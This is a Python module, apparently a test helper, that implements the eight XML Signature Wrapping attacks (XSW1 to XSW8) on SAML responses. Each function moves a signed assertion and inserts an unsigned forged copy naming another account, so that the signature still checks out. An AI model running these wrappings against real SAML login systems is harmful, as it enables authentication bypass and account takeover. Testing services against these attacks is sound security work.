"""The eight known ways to wrap a signed answer around an assertion that nobody signed.

Each takes the bytes of an answer whose response and assertion are signed, and returns bytes in
which the signature still fits something, and another account is where a careless reader looks.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from saml_provider import SPACES

EVIL = "k9-0001"


def _evil(element: etree._Element) -> etree._Element:
    """A copy for another account, by another id, with no signature of its own."""
    copy = deepcopy(element)
    copy.set("ID", "_evil")
    for name in copy.iter(f"{{{SPACES['saml']}}}NameID"):
        name.text = EVIL
    for signature in list(copy.iter(f"{{{SPACES['ds']}}}Signature")):
        signature.getparent().remove(signature)
    return copy


def _assertion(response: etree._Element) -> etree._Element:
    return response.find("saml:Assertion", SPACES)


def _signature(element: etree._Element) -> etree._Element:
    return element.find("ds:Signature", SPACES)


def _without_signature(element: etree._Element) -> etree._Element:
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def xsw1(response: etree._Element) -> etree._Element:
    """The signed response lies in the signature of the evil one."""
    evil, signature = _evil(response), deepcopy(_signature(response))
    signature.append(_without_signature(response))
    evil.insert(1, signature)
    return evil


def xsw2(response: etree._Element) -> etree._Element:
    """The signed response lies before its signature, in the evil one."""
    evil = _evil(response)
    evil.insert(1, deepcopy(_signature(response)))
    evil.insert(1, _without_signature(response))
    return evil


def xsw3(response: etree._Element) -> etree._Element:
    """The evil assertion stands before the signed one."""
    signed = _assertion(response)
    signed.addprevious(_evil(signed))
    return response


def xsw4(response: etree._Element) -> etree._Element:
    """The signed assertion lies in the evil one."""
    signed = _assertion(response)
    evil = _evil(signed)
    response.replace(signed, evil)
    evil.append(signed)
    return response


def xsw5(response: etree._Element) -> etree._Element:
    """The evil assertion carries the signature; the signed one stands after it."""
    signed = _assertion(response)
    evil = _evil(signed)
    evil.insert(1, deepcopy(_signature(signed)))
    signed.addprevious(evil)
    signed.remove(_signature(signed))
    return response


def xsw6(response: etree._Element) -> etree._Element:
    """The signed assertion lies in the signature that the evil one carries."""
    signed = _assertion(response)
    evil, signature = _evil(signed), deepcopy(_signature(signed))
    signature.append(_without_signature(signed))
    evil.insert(1, signature)
    response.replace(signed, evil)
    return response


def xsw7(response: etree._Element) -> etree._Element:
    """The evil assertion lies in extensions, before the signed one."""
    signed = _assertion(response)
    extensions = etree.Element(f"{{{SPACES['samlp']}}}Extensions")
    extensions.append(_evil(signed))
    signed.addprevious(extensions)
    return response


def xsw8(response: etree._Element) -> etree._Element:
    """The signed assertion lies in an object of the signature that the evil one carries."""
    signed = _assertion(response)
    evil, signature = _evil(signed), deepcopy(_signature(signed))
    holder = etree.SubElement(signature, f"{{{SPACES['ds']}}}Object")
    holder.append(_without_signature(signed))
    evil.insert(1, signature)
    response.replace(signed, evil)
    return response


WRAPPINGS: dict[str, Callable[[etree._Element], etree._Element]] = {
    one.__name__: one for one in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
}
